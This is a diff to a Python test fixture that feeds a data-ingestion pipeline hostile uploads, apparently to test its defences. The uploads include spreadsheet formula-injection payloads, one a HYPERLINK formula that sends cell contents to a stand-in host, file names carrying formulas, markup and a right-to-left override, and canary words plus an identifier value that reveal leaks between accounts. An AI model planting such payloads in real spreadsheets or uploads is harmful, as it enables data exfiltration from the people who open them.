@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
-from dataclasses import dataclass
+import subprocess
+import zipfile
+from dataclasses import dataclass, field
 from email.message import EmailMessage
 from pathlib import Path
 from typing import Any
@@ -18,8 +20,10 @@ from ingest.demo import files, lists
 from ingest.demo.cases import as_csv
 
 YEAR, QUARTER = Period(2005), Period(2005, 4)
-CANARIES = {"pf01": "Serinun", "pf02": "Serindeux", "uesl": "Serintrois"}
-"""A word in everything that an account writes."""
+CANARIES = {"pf01": "Serinun", "pf02": "Serindeux", "pf03": "Serinquatre", "uesl": "Serintrois"}
+"""A word in everything that an account writes; what the central body writes is for everybody."""
+NIR = "269054958815780"
+"""The example of its specification."""
 PAYLOADS = (
     '=HYPERLINK("http://ailleurs.example/?"&A1;"{0}")',
     "=1+1+{0}",
@@ -75,6 +79,14 @@ def spoiled(content: bytes, account: str, *, separator: str = ";") -> bytes:
         bad[rank % len(rows[0])] = text
         out.append(bad)
     return csv_of(out)
+
+
+def with_columns(content: bytes, texts: list[str]) -> bytes:
+    """A good table with a column more for each text, under a title of its own: all lines are as good as before."""
+    rows = [line.split(";") for line in content.decode("utf-8-sig").splitlines()]
+    titles = [text if text != NIR else "Observation" for text in texts]
+    more = [[*texts[rank % len(texts) :], *texts[: rank % len(texts)]] for rank in range(len(rows))]
+    return csv_of([[*row, *(titles if rank == 0 else more[rank])] for rank, row in enumerate(rows)])
 
 
 def listed(lines: list[dict[str, str]], account: str, *columns: str) -> bytes:
@@ -164,7 +176,8 @@ class Day:
 
     def produced(self, ending: str) -> list[Path]:
         """Distinct files of ours, by content."""
-        roots = (self.desk.inbox, self.desk.home / "releases", self.desk.folder / "gabarits")
+        folders = ("gabarits", "export")
+        roots = (self.desk.inbox, self.desk.home / "releases", *(self.desk.folder / one for one in folders))
         found: dict[bytes, Path] = {}
         for root in roots:
             for path in sorted(root.rglob(f"*{ending}")):
@@ -177,9 +190,33 @@ class Day:
         found: list[EmailMessage] = self.desk.mails()
         return found
 
+    def told(self, path: Path) -> str:
+        """Everything that a file says, also what it packs."""
+        return self.said(path.read_bytes())
+
+    def said(self, content: bytes) -> str:
+        """The same of its bytes; each content is opened once."""
+        if content not in self._opened:
+            self._opened[content] = says(content)
+        return self._opened[content]
+
+    _opened: dict[bytes, str] = field(default_factory=dict, init=False, repr=False)
+
+
+def says(content: bytes) -> str:
+    """The texts of a file: its bytes, the parts of a workbook, the words of a PDF."""
+    found = content
+    if content.startswith(b"PK"):
+        with zipfile.ZipFile(io.BytesIO(content)) as book:
+            found += b"".join(name.encode() + book.read(name) for name in book.namelist())
+    if content.startswith(b"%PDF"):
+        words = ["pdftotext", "-q", "-", "-"]
+        found += subprocess.run(words, input=content, capture_output=True, check=True, timeout=120).stdout
+    return found.decode("utf-8", "replace")
+
 
 def drop_day(desk: Any, directory: Directory) -> None:
-    """What the two platforms send for the quarter and for the year."""
+    """What platforms send: good, refused, accepted with hostile texts, destroyed, nil, the bytes of another."""
     for account in ("pf01", "pf02"):
         code, word = account.upper(), CANARIES[account]
         good = files.good_csv(directory, code, QUARTER).content
@@ -187,13 +224,18 @@ def drop_day(desk: Any, directory: Directory) -> None:
         desk.drop(account, f"N1A_2005T4_=1+1&{word}<b>.csv", spoiled(good, account))
         desk.drop(account, f"N1A_2005T4_bon_{word}.csv", good)
         desk.drop(account, f"N1M_2005T4_@{word}\u202e.xlsx", workbook(mobile, account))
-        told = list(lists.incidents(code, YEAR))
+        told = [{"code_cil": "", **one} for one in lists.incidents(code, YEAR)]
         desk.drop(account, f"N2I_2005_{word}.csv", listed(told, account, "description", "suite_donnee"))
     agreements = lists.partnerships("PF01", YEAR)
     texts = ("partenaire_nom", "activite_principale", "objet", "champ", "modalites_application")
     desk.drop("pf01", "N2P_2005.csv", listed(agreements, "uesl", *texts))  # published: no word of pf01 alone
     report = as_csv(lists.report(directory, "PF01", YEAR))
     desk.drop("pf01", f"N2R_2005_{CANARIES['pf01']}.csv", spoiled(report, "pf01"))
+    desk.drop("pf01", f"N2R_2005_bon_{CANARIES['pf01']}.csv", with_columns(report, payloads("pf01")))
+    desk.drop("pf03", f"N1M_2005T4_{CANARIES['pf03']}.csv", b"NEANT\r\n")
+    good = files.good_csv(directory, "PF03", QUARTER).content
+    desk.drop("pf03", f"N1A_2005T4_nir_{CANARIES['pf03']}.csv", with_columns(good, [CANARIES["pf03"], NIR]))
+    desk.drop("pf03", "N1A_2005T4_PF01.csv", files.good_csv(directory, "PF01", QUARTER).content)  # the bytes of another
     desk.drop("pf01", f"essai_{CANARIES['pf01']}\n=1.csv", b"a;b\r\n1;2\r\n", "essai")
 
 
